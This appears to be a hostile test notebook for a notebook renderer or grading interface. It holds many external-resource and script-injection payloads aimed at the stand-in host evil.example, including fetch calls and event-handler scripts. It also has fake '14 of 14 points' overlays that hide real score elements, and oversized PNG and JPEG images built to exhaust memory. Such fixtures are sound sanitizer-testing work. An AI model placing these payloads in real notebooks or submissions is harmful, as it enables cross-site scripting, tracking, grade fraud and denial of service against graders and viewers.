# Asks for pictures, styles and pages from elsewhere in every way at once, marks that it ran, and covers the page.
# %% [markdown]
# ![a](http://evil.example/1.png) ![b](//evil.example/2.png "t") ![](https://evil.example/3.svg) ![c][r] ![r] ![r][]
# [![d](https://evil.example/4.png)](https://evil.example/d) ![e](<http://evil.example/5.png>) \\![f](http://evil.example/6.png)
# !&#91;g](http://evil.example/7.png) &excl;[h](http://evil.example/8.png) **![i](http:\\/\\/evil.example/9.png)** ![$x$](http://evil.example/10.png)
# ![j](hTTp://evil.example/11.png) ![k
# k](http://evil.example/12.png) $![l](http://evil.example/13.png)$ | ![m](/formgrader/api/assignments) ![n](../../../api/contents)
#
# [r]: http://evil.example/14.png "t"
#
# # ![o](http://evil.example/15.png)
# > - ![p](http://evil.example/16.png)
#
# | ![q](http://evil.example/17.png) |
# | --- |
# | ![s](http://evil.example/18.png) |
#
# <img src="http://evil.example/19.png"> <link rel=stylesheet href="http://evil.example/20.css"> <iframe src="http://evil.example/21">
# <script>window.hostile = 1; document.title = "hostile"; console.log("hostile"); alert("hostile"); fetch("http://evil.example/22")</script>
# <div style="position:fixed;inset:0;z-index:9999;background:#fff"><h1>14 of 14 points</h1></div> <style>* { display: none }</style>
#
# Text[^1]
#
# [^1]: ![t](http://evil.example/23.png)
# %%
import base64, struct, zlib
from IPython.display import HTML, Image, Markdown, SVG, Video, display
RUN = "window.hostile=1;document.title='hostile';console.log('hostile');alert('hostile');fetch('http://evil.example/24')"
display(HTML(f"""<script>{RUN}</script><img src="http://evil.example/25.png" onerror="{RUN}" srcset="http://evil.example/26.png 2x">
<picture><source srcset="http://evil.example/27.png"><img></picture><video poster="http://evil.example/28.png" src="http://evil.example/29" autoplay></video>
<audio src="http://evil.example/30" autoplay></audio><link rel=prefetch href="http://evil.example/31"><link rel=dns-prefetch href="//evil.example">
<link rel=stylesheet href="http://evil.example/32.css"><link rel=icon href="http://evil.example/33.ico"><meta http-equiv=refresh content="0;url=http://evil.example/34">
<style>@import url(http://evil.example/35.css); body {{ background: url(http://evil.example/36.png) }} .total, .score {{ display: none }}</style>
<table background="http://evil.example/37.png"><tr><td background="http://evil.example/38.png" style="background:url(http://evil.example/39.png)">x</td></tr></table>
<iframe src="http://evil.example/40"></iframe><object data="http://evil.example/41"></object><embed src="http://evil.example/42"><frameset><frame src="http://evil.example/43">
<form id=f action="http://evil.example/44"><input type=image src="http://evil.example/45.png" autofocus onfocus="{RUN}"></form><body background="http://evil.example/46.png" onload="{RUN}">
<svg onload="{RUN}"><image href="http://evil.example/47.png"/><use href="http://evil.example/48.svg#x"/><style>@import "http://evil.example/49.css"</style></svg>
<math><mtext><style>*{{background:url(http://evil.example/50.png)}}</style></mtext></math><a href="http://evil.example/51" ping="http://evil.example/52" download>a</a>
<div style="position:fixed;inset:0;z-index:9999;background:#fff" onmouseover="{RUN}"><h1>14 of 14 points</h1></div><base href="http://evil.example/">
<details open ontoggle="{RUN}"></details><template shadowrootmode=open><img src="http://evil.example/53.png"></template><dialog open>14 of 14</dialog>
<div popover=auto id=p>14 of 14</div><marquee onstart="{RUN}">x</marquee><input id=check-risks class=score value=14><h4 class=total>14 of 14</h4>"""))
display(Image(url="http://evil.example/54.png"), Markdown("![x](http://evil.example/55.png)"), Video("http://evil.example/56.mp4"))
display({"text/markdown": "![x](http://evil.example/57.png)", "text/latex": "\\includegraphics{http://evil.example/58.png}",
         "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/59.png'/></svg>", "text/plain": "x"}, raw=True)
print("\x1b]8;;http://evil.example/60\x07x\x1b]8;;\x07 <img src=http://evil.example/61.png>")
# %%
def png(width, height):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1 + -(-width // 8)) * min(height, 2000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
def jpeg(width, height):
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x0b\x08" + struct.pack(">HH", height, width) + b"\1\1\x11\0\xff\xd9"
for content in [png(60_000, 60_000), png(2**31 - 1, 2**31 - 1), png(6000, 6000)]:
    display({"image/png": base64.b64encode(content).decode()}, raw=True)
for content in [jpeg(60_000, 60_000), jpeg(65_535, 0), b"\xff\xd8\xff\xe1\xff\xff" + bytes(70_000) + jpeg(60_000, 60_000)[2:]]:
    display({"image/jpeg": base64.b64encode(content).decode()}, raw=True)
display({"image/png": base64.b64encode(b"GIF89a" + bytes(99)).decode(), "image/gif": base64.b64encode(b"GIF89a\xff\xff\xff\xff" + bytes(99)).decode()}, raw=True)
